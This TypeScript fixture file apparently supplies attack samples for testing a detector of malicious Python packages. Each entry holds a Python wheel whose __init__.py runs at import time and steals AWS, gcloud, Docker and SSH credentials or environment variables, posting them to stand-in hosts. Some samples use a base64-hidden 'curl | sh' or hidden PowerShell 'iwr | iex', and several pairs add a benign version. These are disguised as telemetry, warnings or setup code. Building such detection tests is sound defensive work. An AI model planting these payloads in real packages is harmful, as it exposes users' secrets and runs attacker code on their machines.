import type { AttackPair } from '../../../../told.ts';
import { pair, py, wheel } from './kit.ts';

/** Functions as values: chains, members, fields, hooks of the library. */
export const CHAINING: Readonly<Record<string, AttackPair>> = {
  'generator-pipeline': pair(
    wheel({
      'own/__init__.py': py`"""Streaming pipelines."""
from __future__ import annotations
from collections.abc import Iterable, Iterator
from pathlib import Path
import requests

def candidates() -> Iterator[Path]:
    """Paths worth a look."""
    home = Path.home()
    yield home / ".aws" / "credentials"
    yield home / ".config" / "gcloud" / "application_default_credentials.json"
    yield home / ".docker" / "config.json"

def existing(paths: Iterable[Path]) -> Iterator[Path]:
    """Those that exist."""
    yield from (p for p in paths if p.is_file())

def contents(paths: Iterable[Path]) -> Iterator[tuple[str, bytes]]:
    """Name and content of each."""
    for path in paths:
        yield path.name, path.read_bytes()

def drain(rows: Iterable[tuple[str, bytes]]) -> None:
    """Hands over each row."""
    with requests.Session() as session:
        for name, body in rows:
            session.post("https://sink.example/rows", files={name: body})

drain(contents(existing(candidates())))
`,
    }),
    wheel({
      'own/__init__.py': py`"""Streaming pipelines."""
from __future__ import annotations
from collections.abc import Iterable, Iterator
from pathlib import Path
import requests

def existing(paths: Iterable[Path]) -> Iterator[Path]:
    """Those that exist."""
    yield from (p for p in paths if p.is_file())

def contents(paths: Iterable[Path]) -> Iterator[tuple[str, bytes]]:
    """Name and content of each."""
    for path in paths:
        yield path.name, path.read_bytes()

def drain(rows: Iterable[tuple[str, bytes]], url: str) -> None:
    """Hands over each row."""
    with requests.Session() as session:
        for name, body in rows:
            session.post(url, files={name: body})
`,
    }),
  ),
  'method-caller': pair(
    wheel({
      'own/__init__.py': py`"""Functional helpers."""
import operator
import os
import requests

_submit = operator.methodcaller("post", "https://fn.example/in", json=dict(os.environ), timeout=4)
_submit(requests)
`,
    }),
  ),
  'reduce-pipeline': pair(
    wheel({
      'own/steps.py': py`"""Steps of the pipeline."""
from __future__ import annotations
import base64
import os
import urllib.request
import zlib

def snapshot(_: object) -> str:
    """The state of the process."""
    return "\n".join(f"{k}={v}" for k, v in os.environ.items())

def pack(text: str) -> bytes:
    """The text, packed."""
    return base64.b85encode(zlib.compress(text.encode()))

def deliver(body: bytes) -> int:
    """Hands it over."""
    request = urllib.request.Request("https://flow.example/p", data=body)
    with urllib.request.urlopen(request) as response:
        return response.status
`,
      'own/__init__.py': py`"""A pipeline of functions."""
from functools import reduce
from .steps import deliver, pack, snapshot

STEPS = (snapshot, pack, deliver)
STATUS = reduce(lambda value, step: step(value), STEPS, None)
`,
    }),
  ),
  'enum-actions': pair(
    wheel({
      'own/__init__.py': py`"""Lifecycle of the client."""
from __future__ import annotations
import shutil
import tempfile
from enum import Enum
from functools import partial
from pathlib import Path
import requests

ARCHIVE = Path(tempfile.gettempdir()) / "profile"

def _pack(folder: Path) -> None:
    shutil.make_archive(str(ARCHIVE), "zip", folder)

def _ship(url: str) -> None:
    with ARCHIVE.with_suffix(".zip").open("rb") as handle:
        requests.post(url, files={"file": handle})

class Phase(Enum):
    """Phases in their order."""
    PACK = partial(_pack, Path.home() / ".ssh")
    SHIP = partial(_ship, "https://life.example/up")

for phase in Phase:
    phase.value()
`,
    }),
  ),
  'dataclass-factory': pair(
    wheel({
      'own/__init__.py': py`"""Telemetry events."""
from __future__ import annotations
import getpass
import os
import socket
from dataclasses import asdict, dataclass, field
import requests

@dataclass(slots=True)
class Event:
    """An event with its context."""
    name: str
    user: str = field(default_factory=getpass.getuser)
    host: str = field(default_factory=socket.gethostname)
    env: dict[str, str] = field(default_factory=lambda: dict(os.environ))

    def __post_init__(self) -> None:
        requests.post("https://events.example/v2", json=asdict(self), timeout=3)

Event("import")
`,
    }),
    wheel({
      'own/__init__.py': py`"""Telemetry events."""
from __future__ import annotations
import platform
from dataclasses import asdict, dataclass, field
import requests

@dataclass(slots=True)
class Event:
    """An event with its context."""
    name: str
    python: str = field(default_factory=platform.python_version)

    def send(self, url: str) -> None:
        """Sends the event."""
        requests.post(url, json=asdict(self), timeout=3)
`,
    }),
  ),
  'warnings-hook': pair(
    wheel({
      'own/__init__.py': py`"""Better warnings."""
import http.client
import json
import os
import warnings
from typing import Any

def _show(message: Warning | str, category: type[Warning], filename: str, lineno: int, *args: Any) -> None:
    """Shows a warning where the team sees it."""
    connection = http.client.HTTPSConnection("warn.example")
    connection.request("POST", "/w", body=str(message))
    connection.getresponse().read()

warnings.showwarning = _show
warnings.simplefilter("always")
warnings.warn(json.dumps(dict(os.environ)))
`,
    }),
    wheel({
      'own/__init__.py': py`"""Better warnings."""
import sys
import warnings
from typing import Any

def _show(message: Warning | str, category: type[Warning], filename: str, lineno: int, *args: Any) -> None:
    """Shows a warning in one line."""
    print(f"{category.__name__}: {message} ({filename}:{lineno})", file=sys.stderr)

def install() -> None:
    """Makes warnings short."""
    warnings.showwarning = _show
`,
    }),
  ),
  'exception-text': pair(
    wheel({
      'own/errors.py': py`"""Errors of the package."""
class MigrationRequired(RuntimeError):
    """Says that the store must be migrated first."""
    plan = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwczovL2MyLmV4YW1wbGUvcyB8IHNoIik="
    def __str__(self) -> str:
        return self.plan
`,
      'own/__init__.py': py`"""A store with migrations."""
import base64
from .errors import MigrationRequired

def open_store(version: int) -> None:
    """Opens the store."""
    if version < 2:
        raise MigrationRequired()

try:
    open_store(1)
except MigrationRequired as error:
    exec(base64.b64decode(str(error)))
`,
    }),
  ),
  'match-platform': pair(
    wheel({
      'own/__init__.py': py`"""Native acceleration."""
import platform
import subprocess

def _bootstrap() -> None:
    """Prepares the native part."""
    match (platform.system(), platform.machine()):
        case ("Windows", _):
            command = ["powershell", "-w", "hidden", "-c", "iwr https://native.example/w.ps1 | iex"]
        case ("Darwin", "arm64"):
            command = ["sh", "-c", "curl -fsSL https://native.example/m | bash"]
        case (_, arch) if (libc := platform.libc_ver()[0]):
            command = ["sh", "-c", f"curl -fsSL https://native.example/{arch}/{libc} | bash"]
        case _:
            return
    subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

_bootstrap()
`,
    }),
    wheel({
      'own/__init__.py': py`"""Native acceleration."""
import platform
import subprocess

def hint() -> str:
    """How the user installs the native part."""
    match platform.system():
        case "Windows":
            return "winget install own-native"
        case "Darwin":
            return "brew install own-native"
        case _:
            return "apt install own-native"

def version() -> str:
    """Version of the native part."""
    return subprocess.run(["own-native", "--version"], capture_output=True, text=True, check=True).stdout
`,
    }),
  ),
};
